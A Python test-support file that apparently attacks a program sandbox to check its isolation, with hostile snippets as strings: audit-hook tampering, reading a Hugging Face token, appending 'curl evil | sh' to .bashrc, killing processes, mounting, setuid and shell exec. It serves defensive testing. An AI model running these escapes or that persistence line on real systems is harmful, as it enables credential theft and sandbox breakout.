"""Attacks on the program sandbox, run by tests/test_sandbox_isolation.py as root and as an
unprivileged user (then as `python -I -S tests/sandbox_attacks.py REPO SPEC.json`, stdlib only).

`hostile_programs` go through the whole sandbox; `KERNEL_PROBE` runs after `isolate()` alone,
without the audit hook, to show that the kernel layer holds by itself.
"""

import json
import os
import sys

# Bypass attempts on the audit hook itself; each then tries to read `target`.
HOOK_TAMPERING = {
    "rewrite-main-globals": "import sys\nm = sys.modules['__main__']\nm.DENIED_PREFIXES = ('x',)\nm.PATH_EVENTS = set()\n",
    "rewrite-builtins": "import builtins\nbuiltins.type = lambda x: 0\nbuiltins.isinstance = lambda *a: True\n",
    "rewrite-os-path": "import os\nos.path.realpath = lambda p: '/work'\nos.path.abspath = lambda p: '/work'\n",
    "frame-from-traceback": "try:\n    open('/etc/hostname')\nexcept PermissionError as e:\n"
    "    e.__traceback__.tb_frame.f_globals.clear()\n",
    "getframe": "import sys\nsys._getframe(0).f_globals.clear()\n",
    "gc-walk": "import gc\n[o.clear() for o in gc.get_objects() if isinstance(o, dict)]\n",
    "new-audit-hook": "import sys\nsys.addaudithook(lambda *a: None)\n",
}


def hostile_programs(spec: dict) -> dict[str, str]:
    """Programs that each try one escape named in the hardening issue; `spec` names host paths."""
    secret, home = spec["secret"], spec["home"]
    read = f"answer = len(open({secret!r}).read())\n"
    programs = {name: code + read for name, code in HOOK_TAMPERING.items()}
    programs |= {
        "issue-globals-escape": "import os, sys\nm = sys.modules['__main__']; m.DENIED_PREFIXES = ('x',); "
        f"m.PATH_EVENTS = set()\nopen({home + '/escaped.txt'!r}, 'w').write('x')\n"
        "answer = len(open('/etc/passwd').read())\n",
        "read-hub-token": f"answer = open({home + '/.cache/huggingface/token'!r}).read()\n",
        "append-bashrc": f"open({home + '/.bashrc'!r}, 'a').write('curl evil | sh')\nanswer = 1\n",
        "load-ctypes": "import ctypes\nanswer = ctypes.CDLL(None).getpid()\n",
        "kill-parent": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nanswer = 1\n",
        "kill-everyone": "import os\nos.kill(-1, 9)\nanswer = 1\n",
        "list-host-tmp": "import os\nanswer = len(os.listdir('/tmp'))\n",
    }
    return programs


# Runs with no audit hook after isolate(): prints what each escape achieved.
KERNEL_PROBE = """
import json, os
spec, outcome = json.loads(SPEC), {}
def attempt(name, action):
    try:
        outcome[name] = "done: " + repr(action())[:80]
    except Exception as exc:
        outcome[name] = "refused: " + type(exc).__name__
def fork():
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    return pid
def libc_call(name, *args):
    result = getattr(ctypes.CDLL(None, use_errno=True), name)(*args)
    if result != 0:
        raise OSError(ctypes.get_errno(), name)
    return result
attempt("read-secret", lambda: open(spec["secret"]).read())
attempt("write-host", lambda: open(spec["home"] + "/escaped.txt", "w").write("x"))
attempt("see-host-root", lambda: sorted(os.listdir("/")) == ["work"] or sorted(os.listdir("/")))
attempt("kill-test-process", lambda: os.kill(spec["test_pid"], 9))
attempt("kill-everyone", lambda: os.kill(-1, 9))
attempt("connect-host", lambda: socket.socket().connect(("127.0.0.1", spec["port"])))
attempt("fork", fork)
attempt("become-root", lambda: os.setuid(0))
attempt("unmount-root", lambda: libc_call("umount2", b"/", 2))
attempt("mount-tmpfs", lambda: libc_call("mount", b"tmpfs", b"/work", b"tmpfs", 0, None))
attempt("exec-shell", lambda: os.execv("/bin/sh", ["sh", "-c", "true"]))
print(json.dumps(outcome))
"""


def run_kernel_probe(repo: str, spec: dict) -> None:
    """In this process: isolate as the sandbox does, skip the hook, run KERNEL_PROBE."""
    sys.path.insert(0, os.path.join(repo, "filters"))
    import ctypes  # kept: the worst case, a program that holds native code after isolation
    import socket

    import sandbox_child

    try:
        sandbox_child.isolate(cpu_seconds=5, memory_bytes=512 << 20, output_bytes=1 << 16, parent=os.getppid())
    except (sandbox_child.IsolationUnavailable, OSError) as exc:
        return print(json.dumps({"unavailable": str(exc)}))
    exec(KERNEL_PROBE, {"SPEC": json.dumps(spec), "ctypes": ctypes, "socket": socket})


def run_hostile_programs(repo: str, spec: dict) -> dict:
    """Through the whole sandbox, in parallel, with honest siblings that must keep their answer."""
    sys.path.insert(0, repo)
    from filters.sandbox import SandboxLimits, SandboxUnavailable, run_programs

    programs = hostile_programs(spec)
    honest = [f"answer = {42 + i}" for i in range(4)]
    try:
        results = run_programs(list(programs.values()) + honest, SandboxLimits(wall_seconds=30), workers=6)
    except SandboxUnavailable as exc:
        return {"unavailable": str(exc)}
    outcome = {name: [r.reason, r.text] for name, r in zip(programs, results)}
    outcome["honest-siblings"] = [r.text for r in results[len(programs) :]]
    return outcome


if __name__ == "__main__":
    repo_dir, spec_file, mode = sys.argv[1], sys.argv[2], sys.argv[3]
    with open(spec_file) as file:
        probe_spec = json.load(file)
    if mode == "kernel":
        run_kernel_probe(repo_dir, probe_spec)
    else:
        print(json.dumps(run_hostile_programs(repo_dir, probe_spec)))
